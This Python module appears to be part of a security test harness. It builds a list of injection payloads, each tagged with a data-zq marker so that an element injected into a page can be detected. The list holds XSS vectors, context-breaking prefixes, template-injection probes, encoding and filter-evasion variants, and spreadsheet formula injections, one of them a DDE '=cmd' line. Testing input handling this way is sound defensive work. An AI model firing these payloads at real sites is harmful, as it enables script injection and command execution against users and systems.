"""What somebody types who wants a page to run it: each carries the mark by which an element of theirs is found."""

from itertools import product

OUT_OF = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->"]
"""What closes the place that a text may stand in."""
ELEMENTS = [
    "<script data-zq>alert(1)</script>",
    '<script data-zq src="//zq.example"></script>',
    "<img data-zq src=/zq onerror=alert(1)>",
    "<svg data-zq onload=alert(1)>",
    "<svg><a data-zq xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate data-zq onbegin=alert(1) attributeName=x>",
    "<math><mi data-zq href=javascript:alert(1)>x",
    "<a data-zq href=javascript:alert(1)>x</a>",
    "<a data-zq href='java\tscript:alert(1)'>x</a>",
    "<details data-zq open ontoggle=alert(1)>",
    "<input data-zq autofocus onfocus=alert(1)>",
    "<video data-zq src=/zq onerror=alert(1)>",
    '<iframe data-zq srcdoc="<script>alert(1)</script>">',
    "<object data-zq data=/zq>",
    "<form data-zq action=//zq.example><button>x",
    "<style data-zq>*{display:none}</style>",
    "<link data-zq rel=stylesheet href=//zq.example>",
    "<meta data-zq http-equiv=refresh content=0;//zq>",
    "<base data-zq href=//zq.example>",
]
INSIDE = [
    '" data-zq onfocus=alert(1) autofocus x="',
    "' data-zq onfocus=alert(1) autofocus x='",
    " data-zq onclick=alert(1) ",
]
OTHERWISE = [
    *("{{ 7|add:770070 }}", "{% csrf_token %}", "{{ request.user.email }}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>"),
    *("&lt;img data-zq src=/zq onerror=alert(1)&gt;", "\\u003cimg data-zq src=/zq\\u003e", "%3Cimg data-zq src=/zq%3E"),
    *("+ADw-script data-zq+AD4-alert(1)", "＜script data-zq＞alert(1)", "<scr<script data-zq>ipt>alert(1)"),
    *(
        "<ScRiPt data-zq>alert(1)</sCrIpT>",
        "<svg/data-zq/onload=alert(1)>",
        "<!--><img data-zq src=/zq onerror=alert(1)>",
    ),
    *("javascript:alert(1)", "data:text/html,<script data-zq>alert(1)</script>", "]]><img data-zq src=/zq>"),
    *("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"),
]
PAYLOADS = [*(out + element for element, out in product(ELEMENTS, OUT_OF)), *INSIDE, *OTHERWISE]


def fitting(longest: int, turn: int) -> str:
    """Return a text of at most that many characters: the payloads from this turn's on, one after another."""
    said = ""
    for payload in PAYLOADS[turn % len(PAYLOADS) :] + PAYLOADS[: turn % len(PAYLOADS)]:
        if len(said) + len(payload) + 1 > longest:
            break
        said += f"{payload} "
    return said
